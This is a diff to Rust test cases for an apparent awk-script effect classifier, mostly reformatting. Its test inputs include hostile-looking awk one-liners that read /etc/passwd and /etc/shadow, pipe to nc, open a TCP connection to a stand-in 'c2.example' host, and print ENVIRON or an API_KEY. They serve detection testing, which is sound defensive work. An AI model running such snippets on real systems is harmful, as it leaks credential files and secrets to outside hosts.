@@ -72,39 +72,27 @@ fn files() {
         &[
             ("{ print > \"out.txt\" }", &["write out.txt"]),
             ("{print>\"out\"}", &["write out"]),
-            (
-                "{ print $1, $2 >> \"out\" ; close(\"out\") }",
-                &["append out"],
-            ),
+            ("{ print $1, $2 >> \"out\" ; close(\"out\") }", &["append out"]),
             ("{ printf(\"%s\", $1) > \"out\" }", &["write out"]),
             ("{ print(1)(2) > \"out\" }", &["write out"]),
             ("{ print (1 > 2) > \"out\" }", &["write out"]),
             ("{ print a,\n b > \"out\" }", &["write out"]),
             ("{ print a \\\n > \"out\" }", &["write out"]),
-            (
-                "{ if (x) print > \"a\"; else print > \"b\" }",
-                &["write a", "write b"],
-            ),
+            ("{ if (x) print > \"a\"; else print > \"b\" }", &["write a", "write b"]),
             ("BEGIN { for (; i < 1; print > \"f\") i++ }", &["write f"]),
             ("{ print > $1 \".txt\" }", &["unknown"]),
             ("{ print > \"a\" \"b\" }", &["unknown"]),
             ("{ print $1 > 100 }", &["unknown"]),
             ("{ print > \"/etc/\\160asswd\" }", &["unknown"]),
             ("{ print > \"-\" }", &["write ./-"]),
-            (
-                "BEGIN { while ((getline l < \"/etc/passwd\") > 0) print l }",
-                &["read /etc/passwd"],
-            ),
+            ("BEGIN { while ((getline l < \"/etc/passwd\") > 0) print l }", &["read /etc/passwd"]),
             ("BEGIN { getline < \"f\"; print }", &["read f"]),
             ("BEGIN { getline a[1] < \"f\" }", &["read f"]),
             ("BEGIN { getline $2 < \"f\" }", &["read f"]),
             ("BEGIN { getline $(i+1) < \"f\" }", &["read f"]),
             ("BEGIN { getline x < ARGV[1] }", &["unknown", "unknown"]),
             ("BEGIN { getline x < file }", &["unknown"]),
-            (
-                "BEGIN { ARGV[1] = \"/etc/shadow\"; ARGC = 2 }",
-                &["unknown"],
-            ),
+            ("BEGIN { ARGV[1] = \"/etc/shadow\"; ARGC = 2 }", &["unknown"]),
         ],
     );
 }
@@ -132,23 +120,11 @@ fn runs() {
             ("BEGIN { x = \"date\" | getline }", &["execute"]),
             ("BEGIN { print \"x\" |& \"nc h 1\" }", &["execute"]),
             ("{ print (\"id\" | getline) }", &["shell id"]),
-            (
-                "BEGIN { s = \"/inet/tcp/0/c2.example/80\"; print |& s }",
-                &["send c2.example", "execute"],
-            ),
-            (
-                "BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }",
-                &["reveal environment"],
-            ),
-            (
-                "BEGIN { print ENVIRON[\"API_KEY\"] }",
-                &["reveal variable API_KEY"],
-            ),
+            ("BEGIN { s = \"/inet/tcp/0/c2.example/80\"; print |& s }", &["send c2.example", "execute"]),
+            ("BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }", &["reveal environment"]),
+            ("BEGIN { print ENVIRON[\"API_KEY\"] }", &["reveal variable API_KEY"]),
             ("BEGIN { print ENVIRON[x] }", &["reveal environment"]),
-            (
-                "BEGIN { print ENVIRON[\"HO\" \"ME\"] }",
-                &["reveal environment"],
-            ),
+            ("BEGIN { print ENVIRON[\"HO\" \"ME\"] }", &["reveal environment"]),
         ],
     );
 }
